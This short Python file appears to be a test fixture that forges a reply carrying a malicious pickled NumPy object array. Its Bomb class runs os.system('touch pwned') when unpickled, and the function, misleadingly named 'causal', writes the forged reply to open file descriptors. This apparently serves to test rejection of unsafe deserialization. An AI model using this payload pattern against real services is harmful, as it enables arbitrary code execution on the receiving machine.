"""Sends a reply whose array is a pickle that would run a program."""

import io
import json
import os
import struct

import numpy as np


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch pwned",))


def causal(n_q, n_kv, q_offset=0):
    archive = io.BytesIO()
    np.savez(archive, np.array([Bomb()], dtype=object))
    body = archive.getvalue()
    text = json.dumps({"status": "returned", "value": {"array": 0, "shape": [1]}}).encode()
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!II", len(text), len(body)) + text + body)
        except OSError:
            continue
